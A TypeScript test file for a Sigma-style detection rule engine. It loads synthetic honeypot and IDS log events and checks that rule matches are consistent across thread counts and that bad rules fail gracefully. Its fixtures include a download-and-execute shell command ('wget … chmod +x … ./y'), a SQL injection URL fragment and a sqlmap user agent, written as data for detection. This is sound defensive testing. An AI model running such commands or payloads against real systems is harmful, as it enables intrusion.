import {mkdtemp, rm} from "node:fs/promises";
import {tmpdir} from "node:os";
import {join} from "node:path";
import {afterAll, beforeAll, describe, expect, it} from "vitest";
import {type Database, openDatabase} from "../../../data-loaders/database.js";
import {readRuleFiles} from "../../../data-loaders/rules/read-rule-files.js";
import {runRules} from "../../../src/engine/analysis/detect/run-rules.js";
import {compileRules} from "../../../src/engine/sigma/compile/compile-rules.js";
import {planParts} from "../../../src/engine/sigma/compile/plan-parts.js";
import type {EventRule} from "../../../src/engine/sigma/rule.js";
import {createLogs, eventRule} from "../../engine/sigma/compile/fixtures.js";

let directory: string;
beforeAll(async () => {
  directory = await mkdtemp(join(tmpdir(), "flowbook-rules-"));
});
afterAll(() => rm(directory, {recursive: true, force: true}));

/** Events that a good many of our rules are about. */
async function openLogs(threads: number): Promise<Database> {
  const database = await openDatabase(directory, threads);
  await database.run(createLogs);
  await database.run(`
    INSERT INTO logs BY NAME
    SELECT i::INTEGER AS seq, TIMESTAMP '2026-03-02' + i * INTERVAL 1 SECOND AS event_time,
      ['suricata', 'cowrie', 'authlog', 'dionaea'][i % 4 + 1] AS dataset,
      CASE i % 4 WHEN 0 THEN ['dns', 'http', 'flow', 'tls', 'alert'][i // 4 % 5 + 1] WHEN 1 THEN 'cowrie.command.input'
        WHEN 2 THEN 'login.failed' ELSE 'dionaea.connection.accept' END AS event_type,
      CASE WHEN i % 4 = 2 THEN 'failed' END AS login, '203.0.113.' || i % 3 AS source_ip, '192.0.2.' || i % 97 AS destination_ip,
      i % 500 AS destination_port, 'user' || i % 40 AS username, 'inbound' AS direction, 'TCP' AS protocol, 'SSH' AS app_protocol,
      'wget http://x/y; chmod +x y; ./y' AS command, '/a.php?id=1 union select ' || i AS http_url, 404 AS http_status,
      'sqlmap/1.0' AS http_user_agent, md5(i::VARCHAR) || '.example.com' AS dns_query, 'NXDOMAIN' AS dns_rcode
    FROM range(4000) t(i)`);
  return database;
}

const matches = (database: Database) => database.rows("SELECT * FROM rule_matches ORDER BY rule, seq");

describe("running rules", () => {
  it("finds what each query finds by itself, on any number of threads", async () => {
    const {rules} = await readRuleFiles(["data/rules"]);
    const compiled = compileRules(rules);
    expect(planParts(compiled).length).toBeGreaterThan(2);
    const found = [];
    for (const threads of [1, 2]) {
      const database = await openLogs(threads);
      const runs = await runRules(database, compiled);
      expect(runs.filter(({error}) => error !== null)).toEqual([]);
      found.push(await matches(database));
      const total = runs.reduce((sum, {hits}) => sum + hits, 0);
      expect(total).toBe(found[0]?.length);
      database.close();
    }
    expect(found[1]).toEqual(found[0]);

    const database = await openLogs(2);
    await database.run("CREATE TABLE rule_matches (seq INTEGER, rule INTEGER, value DOUBLE)");
    for (const [number, one] of compiled.entries()) {
      if (one.state !== "compiled") continue;
      await database.run(`INSERT INTO rule_matches SELECT seq, ${number}, value FROM (${one.sql})`);
    }
    const alone = await matches(database);
    database.close();
    expect(new Set(alone.map(({rule}) => rule)).size).toBeGreaterThan(10);
    expect(found[0]).toEqual(alone);
  }, 60_000);

  it("goes on after a rule that the database refuses, and says why", async () => {
    const database = await openLogs(1);
    const position = {line: 1, column: 1};
    const regex = (source: string): EventRule =>
      eventRule({
        kind: "field",
        field: "command",
        match: {kind: "regex", source, flags: {i: false, m: false, s: false}},
        position
      });
    const updates: string[] = [];
    const runs = await runRules(database, compileRules([regex("("), regex("^wget")]), {
      update: text => updates.push(text)
    });
    expect(runs.map(({hits}) => hits)).toEqual([0, 4000]);
    expect(runs[0]?.error).toContain("missing )");
    expect(runs[1]?.error).toBe(null);
    expect(updates[0]).toContain("missing )");
    database.close();
  });
});
